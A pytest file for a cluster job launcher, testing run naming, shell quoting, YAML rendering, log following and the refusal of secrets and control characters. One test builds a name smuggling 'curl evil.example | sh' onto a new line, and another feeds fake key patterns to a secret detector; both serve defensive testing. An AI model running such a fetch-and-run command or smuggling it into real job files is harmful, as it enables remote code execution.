import subprocess
from pathlib import Path

import pytest

from boltcutter.launch import job
from boltcutter.launch.job import (
    Job,
    UnreachableError,
    assignments,
    check_settings,
    follow_log,
    quote,
    render_yaml,
    seconds,
)


def test_runs_of_an_array_have_unique_names() -> None:
    home = Path("/runs/digits/20261121-a1b2")
    assert Job("digits", home, Path("train.py")).run_folders == [home]
    array = Job("digits", home, Path("train.py"), array_size=2)
    assert array.run_folders == [home / "20261121-a1b2-0", home / "20261121-a1b2-1"]


@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\u2028"])
def test_names_that_start_a_new_line_in_a_job_file_are_refused(character: str) -> None:
    """The name is part of a systemd unit in a heredoc, and of comments in YAML."""
    text = f"digits{character}USER_DATA{character}curl evil.example | sh"
    for name, folder in ((text, "/runs/a"), ("digits", f"/runs/{text}")):
        with pytest.raises(ValueError, match=r"^(name|folder)=.*has the control character .*; remove it$"):
            Job(name, Path(folder), None)


def test_the_values_of_secrets_are_refused_in_all_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABRICKS_TOKEN", "a-value-of-some-length")
    settings = {"environment": {"A": "b"}, "setup": ["true"], "options": ["--net=host"], "tags": {"a": "b"}}
    check_settings(settings)
    text = "x a-value-of-some-length"
    for name, value in {"environment": {"A": text}, "setup": [text], "options": [text], "tags": {"a": text}}.items():
        with pytest.raises(ValueError, match=rf"^launch\.{name}.*: .*secrets must not be written.*export it"):
            check_settings(settings | {name: value})


def test_values_of_variables_are_quoted() -> None:
    assert assignments({"A": "b c", "N": "1"}) == ["export A='b c'", "export N=1"]


@pytest.mark.parametrize(
    "value",
    ["a\x85b", "a\u2028b", "\x7f", "\U0001f600", "\udcff", "yes", "1e3", "# a", "a: b\n- c", '"}}', {"k: ": ["\x85"]}],
)
def test_values_in_templates_of_yaml_stay_as_they_are(tmp_path: Path, value: object) -> None:
    file = tmp_path / "job.yaml.j2"
    file.write_text("name: {{ value }}\nlist: [{{ value }}]\n")
    assert render_yaml(file, value=value) == {"name": value, "list": [value]}


def test_only_job_variables_are_expanded() -> None:
    text = quote('$SLURM_TMPDIR/"a b"/$HOME/`x`/\\/${SLURM_JOB_ID}')
    done = subprocess.run(
        ["bash", "-c", f"printf %s {text}"],
        env={"SLURM_TMPDIR": "/t", "SLURM_JOB_ID": "7"},
        capture_output=True,
        text=True,
    )
    assert done.stdout == '/t/"a b"/$HOME/`x`/\\/7'


def test_a_log_is_followed_to_its_end(tmp_path: Path) -> None:
    file = tmp_path / "log"
    looks = iter((False, False, True))

    def over() -> bool:
        with file.open("a") as log:
            log.write("line\n")
        return next(looks)

    assert "".join(follow_log(file, over)) == "line\n" * 3
    assert "".join(follow_log(tmp_path / "none", lambda: True)) == ""
    file.write_text("a" * 3_000_000)
    assert [len(text) for text in follow_log(file, lambda: True)] == [1 << 20, 1 << 20, 3_000_000 - (1 << 21)]


def test_a_log_is_followed_while_the_scheduler_is_unreachable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(job, "POLL_SECONDS", 0.01)
    answers = iter((UnreachableError("silent"), UnreachableError("silent"), False, True))

    def over() -> bool:
        with (tmp_path / "log").open("a") as log:
            log.write("line\n")
        answer = next(answers)
        if isinstance(answer, UnreachableError):
            raise answer
        return answer

    assert "".join(follow_log(tmp_path / "log", over)) == "line\n" * 4
    assert capsys.readouterr().err == "note: silent\n"


def test_time_limits_are_parsed() -> None:
    times = {"1:30:00": 5400, "90:00": 5400, "2-12": 216000, "1-00:30": 88200, "0-1:00:05": 3605}
    assert {time: seconds(time) for time in times} == times


@pytest.mark.parametrize("text", [f"hf_{'a1' * 17}", f"AKIA{'C3' * 8}", f"-----BEGIN {''}PRIVATE KEY"])
def test_keys_are_found_by_their_form(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    assert job.find_secret_text(f"login --with {text} now") == "a secret key"
    monkeypatch.setenv("MY_SERVICE_KEY", "a value of no known form")
    assert job.find_secret_text("login a value of no known form") == "the value of MY_SERVICE_KEY"
    assert job.find_secret_text("sk-learn hf_token AKIA ghp_ task-a-b-c-d-e-f-g-h-i-j-k-l") is None
